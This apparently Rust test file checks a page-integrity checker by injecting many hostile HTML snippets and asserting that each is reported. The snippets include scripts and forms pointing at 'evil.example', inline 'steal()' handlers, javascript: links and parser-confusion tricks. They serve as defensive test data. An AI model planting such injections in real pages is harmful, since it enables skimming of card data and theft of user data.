//! T20: changed scripts, styles and elements.

use super::differences;
use crate::server::page_integrity::assets;

#[tokio::test]
async fn t20_each_script_that_was_not_built_in_is_reported() {
    for (injected, named) in [
        ("<script>steal()</script>", "a script of 7 bytes"),
        ("<script src='https://evil.example/x.js'></script>", "script https://evil.example/x.js"),
        ("<script src='/other.js'></script>", "script /other.js"),
        (
            "<link rel=modulepreload href='https://evil.example/y.js'>",
            "script https://evil.example/y.js",
        ),
        ("<img src=x onerror=steal()>", "onerror on <img>"),
        ("<a href='javascript:steal()'>x</a>", "javascript:"),
        ("<base href='https://evil.example/'>", "<base>"),
        ("<iframe src='https://evil.example/'></iframe>", "<iframe>"),
        ("<form action='https://evil.example/'>", "action on <form>"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta http-equiv>"),
        ("<script>__INCOMPLETE_CHUNKS=[];</script>", "within the page: is there more than once"),
        (
            "<script type=module>__INCOMPLETE_CHUNKS=[];</script>",
            "with attributes that were not built in",
        ),
        ("<script type=speculationrules>{}</script>", "a script of 2 bytes"),
        ("<script type=importmap>{}</script>", "a script of 2 bytes"),
        (
            "<link as=fetch href=/pkg/other.wasm data-integrity=x>",
            "script /pkg/other.wasm: was not built in",
        ),
        (
            "<link rel=preload as=fetch href=/pkg/zuora-cors-sample.wasm data-integrity=x>",
            "loads it in another way",
        ),
        ("<link rel=stylesheet href=/other.css>", "script /other.css: was not built in"),
        ("<link rel=stylesheet href=/pkg/zuora-cors-sample.css>", "loads it in another way"),
        ("<link rel=dns-prefetch href=//evil.example>", "script //evil.example: was not built in"),
        ("<link rel=manifest href=/other.json>", "script /other.json: was not built in"),
        (
            "<meta name=referrer content=unsafe-url>",
            "<meta content=\"unsafe-url\" name=\"referrer\">: was not built in",
        ),
        ("<meta charset=utf-7>", "<meta charset=\"utf-7\">: was not built in"),
        ("<img src=/x.png>", "<img src=\"/x.png\">: was not built in"),
        ("<img srcset=//evil.example/x>", "<img srcset"),
        ("<video poster=/x.png>", "<video poster"),
        ("<a href=https://evil.example>Pay here</a>", "<a href=\"https://evil.example\">"),
        ("<a href=//evil.example>Pay here</a>", "<a href=\"//evil.example\">"),
        ("<a href='/\t/evil.example'>Pay here</a>", "<a href="),
        ("<a href='/' ping=//evil.example>Pay here</a>", "<a href=\"/\" ping="),
        ("<area href=/x>", "<area href"),
        ("<p style='position:fixed'>", "style on <p>"),
        ("<noframes><!--</noframes><script>steal()</script>-->", "<noframes>"),
        ("<svg><plaintext></plaintext></svg><script>steal()</script>", "<svg>"),
        ("<svg><title><script>steal()</script></title></svg>", "<svg>"),
        ("<svg><![CDATA[ > <!-- ]]></svg><script>steal()</script>", "<svg>"),
        ("<!-- <script>steal()</script> -->", "looks like text"),
        ("<select><title></select><script>steal()</script></title>", "<title> in <select>"),
        ("<table><title></table><script>steal()</script></title>", "looks like text"),
        ("<script src='/boot.js' data-integrity='x'></script>", "states another hash"),
        ("<a href='\u{1} javascript:steal()'>x</a>", "javascript:"),
    ] {
        let found = differences(move |_, text| {
            *text = text.replacen("</main>", &format!("{injected}</main>"), 1);
        })
        .await;
        assert!(found.iter().any(|line| line.contains(named)), "{injected}: {found:?}");
    }
}

#[tokio::test]
async fn t20_a_changed_or_missing_script_is_reported() {
    // The files of this site hold their own paths.
    let found = differences(|_, text| {
        if text == "/boot.js" {
            text.push(' ');
        }
    });
    assert!(found.await.iter().any(|line| line.contains("are not those that were built")));
    let found =
        differences(|_, text| *text = text.replacen("integrity=\"sha384", "integrity=\"sha256", 1));
    assert!(found.await.iter().any(|line| line.contains("states another hash")));
    let found = differences(|_, text| *text = text.replace("<script type=\"module\"", "<p"));
    assert!(found.await.iter().any(|line| line.contains("script /boot.js: is missing")));
}

#[tokio::test]
async fn t20_a_changed_style_sheet_is_reported() {
    let found = differences(|_, text| {
        if text == assets::STYLES {
            text.push_str("#card-form { display: none }");
        }
    });
    assert!(found.await.iter().any(|line| line.contains("are not those that were built")));
}
